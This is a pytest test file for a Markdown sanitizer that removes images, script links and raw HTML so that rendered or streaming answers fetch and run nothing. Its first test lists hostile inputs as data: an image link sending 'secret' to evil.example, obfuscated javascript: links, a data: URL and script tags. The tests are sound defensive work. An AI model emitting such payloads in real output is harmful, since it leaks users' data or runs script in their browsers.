"""Markdown that leaves kb fetches nothing and runs nothing, in whatever shows it."""

from __future__ import annotations

import pytest
from kb.app.hosting.harmless import harmless, whole_so_far


@pytest.mark.parametrize(
    ("text", "tamed"),
    [
        ("See ![a chart](http://evil.example/x.png?q=secret) here", "See a chart here"),
        ("![x][r]\n\n[r]: http://evil.example/p.png", "x\n\n"),
        ("[x](javascript:alert(1)) [1]", "x [1]"),
        ("[x]( java\tscript:alert(1))", "x"),
        ("[z](&#106;avascript:alert(1))", "z"),
        ("[z](data:text/html,x)", "z"),
        ('<img src="http://evil.example/x"> text', " text"),
        ("<script>alert(1)</script>", "alert(1)"),
        ("<javascript:alert(1)>", "alert(1)"),
    ],
)
def test_what_would_fetch_or_run_is_taken_out(text: str, tamed: str) -> None:
    """Pictures become their words; links that run something, their text."""
    assert harmless(text) == tamed


@pytest.mark.parametrize(
    "text",
    [
        "[web](https://example.org/a(b)) [mail](mailto:a@b.example) [file](docs/a.md) [1][2]",
        "a < b and vector<int> > c",
        "`![a](http://x.example)` and\n```\n<img src=x>\n```",
        "text [1]: see",
        "[1]: a mark of ours",
    ],
)
def test_the_rest_stays(text: str) -> None:
    """Links to the web, marks, comparisons and code are not touched."""
    assert harmless(text) == text


def test_what_is_half_written_waits() -> None:
    """Of an answer that is being written, nothing goes out that could still become a picture or a link."""
    whole = "See [1] and ![a](http://x.example) or <b [x](javascript:y) end!"
    sent = ""
    for stop in range(len(whole) + 1):
        shown = harmless(whole_so_far(whole[:stop]))
        assert shown.startswith(sent)
        sent = shown
    assert harmless(whole).startswith(sent)
    assert "http" not in sent
